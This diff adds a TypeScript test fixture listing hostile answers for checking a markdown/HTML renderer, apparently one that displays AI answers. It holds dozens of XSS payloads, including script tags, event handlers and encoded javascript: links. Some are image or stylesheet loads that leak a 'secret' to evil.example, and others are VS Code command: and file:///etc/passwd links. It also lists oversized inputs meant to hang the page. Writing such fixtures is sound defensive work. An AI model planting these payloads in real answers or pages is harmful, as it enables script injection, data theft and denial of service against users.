@@ -1,0 +1,112 @@
+/** What a hostile page, file or model could make an answer contain. `pwned` is what each would like to call. */
+const load = "https://evil.example/leak?q=secret";
+const run = "globalThis.pwned('x')";
+
+const html = [
+  `<script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="${load}">`,
+  `<svg onload="${run}"></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><image href="${load}"/></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${load}'/></svg>#x"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
+  `<iframe src="${load}"></iframe>`,
+  `<iframe srcdoc="<script>parent.pwned('x')</script>"></iframe>`,
+  `<object data="${load}"></object>`,
+  `<embed src="${load}">`,
+  `<link rel="stylesheet" href="${load}">`,
+  `<style>body{background:url(${load})}</style>`,
+  `<style>@import url(${load});</style>`,
+  `<div style="background:url(${load})">x</div>`,
+  `<body onload="${run}">`,
+  `<details open ontoggle="${run}">x</details>`,
+  `<input autofocus onfocus="${run}">`,
+  `<video poster="${load}"><source onerror="${run}" src=x></video>`,
+  `<audio src="${load}" autoplay onerror="${run}"></audio>`,
+  `<form action="${load}"><button formaction="javascript:${run}">x</button></form>`,
+  `<meta http-equiv="refresh" content="0;url=${load}">`,
+  `<base href="https://evil.example/">`,
+  `<a href="javascript:${run}">click</a>`,
+  `<a href="command:workbench.action.quit">click</a>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--><img src=x onerror="${run}">-->`,
+  `<![CDATA[><script>${run}</script>]]>`,
+  `<?xml-stylesheet href="${load}"?>`,
+  `<x onclick="${run}" tabindex=1 onfocus="${run}" autofocus>x</x>`,
+];
+
+const links = [
+  `[click](javascript:${run})`,
+  `[click](JaVaScRiPt:${run})`,
+  `[click](java&#115;cript:${run})`,
+  `[click](&#x6A;avascript:${run})`,
+  `[click](<java\tscript:${run}>)`,
+  `[click](command:workbench.action.terminal.new)`,
+  `[click](vscode://extension/steal)`,
+  `[click](vscode-resource:/etc/passwd)`,
+  `[click](file:///etc/passwd)`,
+  `[click](data:text/html,<script>${run}</script>)`,
+  `[click](vbscript:x)`,
+  `[click](blob:https://evil.example/x)`,
+  `[click](//evil.example)`,
+  `[click](\\\\evil.example\\share)`,
+  `<javascript:${run}>`,
+  `<command:workbench.action.quit>`,
+  `[click][r]\n\n[r]: javascript:${run}`,
+  `[click][r]\n\n[r]: command:x "title"`,
+  `[click](https://good.example" onclick="${run})`,
+  `[click](https://good.example "x&quot; onmouseover=&quot;${run}")`,
+  `[<img src=x onerror=${run}>](https://good.example)`,
+  `javascript:${run} command:quit vscode://x data:text/html,x`,
+];
+
+const images = [
+  `![x](${load})`,
+  `![x](${load} "t")`,
+  `![x][r]\n\n[r]: ${load}`,
+  `[![x](${load})](${load})`,
+  `![![x](${load})](${load})`,
+  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
+  `![x](javascript:${run})`,
+  `![x](//evil.example/x.png)`,
+  `![" onerror="${run}](x.png)`,
+  `![x](https://evil.example/x.png" onerror="${run})`,
+  `| ![x](${load}) |\n|---|\n| ![x](${load}) |`,
+];
+
+const code = [
+  "```html\n<script>" + run + "</script>\n```",
+  '```"><script>' + run + "</script>\nx\n```",
+  "```js onload=" + run + "\nx\n```",
+  '```html" onmouseover="' + run + "\n<b>\n```",
+  "```__proto__\nx\n```",
+  "```constructor\nx\n```",
+  "`<img src=x onerror=" + run + ">`",
+  "    <script>" + run + "</script>",
+  "```xml\n<![CDATA[<img src=x onerror=" + run + ">]]>\n",
+  "~~~css\n@import url(" + load + ");\n~~~",
+];
+
+export const hostileAnswers: readonly string[] = [...html, ...links, ...images, ...code];
+
+/** Made to cost time: each is rendered in full and must leave the page answering. */
+export const heavyAnswers: Readonly<Record<string, string>> = {
+  "10,000 nested quotes": `${">".repeat(10_000)} x`,
+  "10,000 nested lists": Array.from({ length: 1_000 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n"),
+  "a line of 1 MB": "word ".repeat(200_000),
+  "a line of 1 MB without a space": "x".repeat(1_000_000),
+  "a line of 1 MB of markup": "**a _b_ `c` [d](e) ".repeat(50_000),
+  "1 MB of opening brackets": "[".repeat(1_000_000),
+  "1 MB of asterisks": "*a ".repeat(330_000),
+  "1 MB of backticks": Array.from({ length: 1_400 }, (_, count) => "`".repeat(count)).join(" "),
+  "a code line of 1 MB": `\`\`\`js\n${"x = 1; ".repeat(150_000)}\n\`\`\``,
+  "code of 1 MB": `\`\`\`js\n${"const x = 1;\n".repeat(80_000)}\`\`\``,
+  "a table of 1 MB": `|a|b|c|\n|-|-|-|\n${"|1|2|3|\n".repeat(20_000)}`,
+  "a table with 20,000 columns": `${"|a".repeat(20_000)}|\n${"|-".repeat(20_000)}|\n${"|1|2|\n".repeat(100)}`,
+  "20,000 list items": "- item with `code`\n".repeat(20_000),
+  "20,000 paragraphs": "A paragraph.\n\n".repeat(20_000),
+  "20,000 reference definitions": Array.from({ length: 20_000 }, (_, n) => `[r${n}]: https://a.b/${n}`).join("\n"),
+  "100,000 bidi controls": "‮a⁦b".repeat(50_000),
+};
